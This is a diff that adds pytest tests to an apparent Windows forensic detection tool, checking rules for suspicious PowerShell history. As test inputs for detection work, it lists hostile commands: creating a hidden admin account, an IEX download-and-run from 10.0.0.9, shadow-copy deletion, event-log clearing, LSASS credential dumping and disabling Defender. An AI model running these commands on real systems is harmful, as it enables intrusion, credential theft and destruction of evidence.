@@ -51,6 +51,10 @@ def test_findings_of_the_planted_traces(built):
     assert not any(".lnk" in s for s in odd)  # shortcuts are not programs
     assert r"C:\Users\nfury\AppData\Local\Temp\~nsu.tmp\Au_.exe (traces: UserAssist)" in odd
     assert rules["ungcuu.windows.usb_storage"] == 1 and rules["ungcuu.windows.rdp_outgoing"] == 2
+    ps = sorted(s for r, s in got if r == "ungcuu.windows.powershell_history_suspicious")
+    history = "/Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
+    assert ps == [f"{history} line 2 (account created): net user support$ P@ssw0rd /add",
+                  f"{history} line 3 (added to Administrators): net localgroup administrators support$ /add"]
     for rule in windows_persistence.RULES + windows_execution.RULES:
         assert rule.explanation_vi and any(t.startswith("attack.t") for t in rule.tags)
 
@@ -69,3 +73,18 @@ def test_command_paths():
     assert command_path('"C:\\Program Files\\A B\\x.exe" -k') == r"C:\Program Files\A B\x.exe"
     assert command_path(r"C:\Users\Public\updater.exe -k") == r"C:\Users\Public\updater.exe"
     assert norm(r"\??\C:\Users\X") == r"\users\x"
+
+
+@pytest.mark.parametrize("line, what", [
+    ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "encoded command"),
+    ("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a.ps1')", "download and run"),
+    ("vssadmin delete shadows /all /quiet", "shadow copies deleted"),
+    ("wevtutil cl Security", "event log cleared"),
+    ("rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", "credential dumping"),
+    ("Set-MpPreference -DisableRealtimeMonitoring $true", "Defender weakened"),
+    ("Get-ChildItem C:\\Users", None), ("net user", None),
+])
+def test_powershell_patterns(line, what):
+    from analysis.checks.windows_powershell import PATTERNS
+
+    assert next((w for rx, w, _ in PATTERNS if rx.search(line)), None) == what
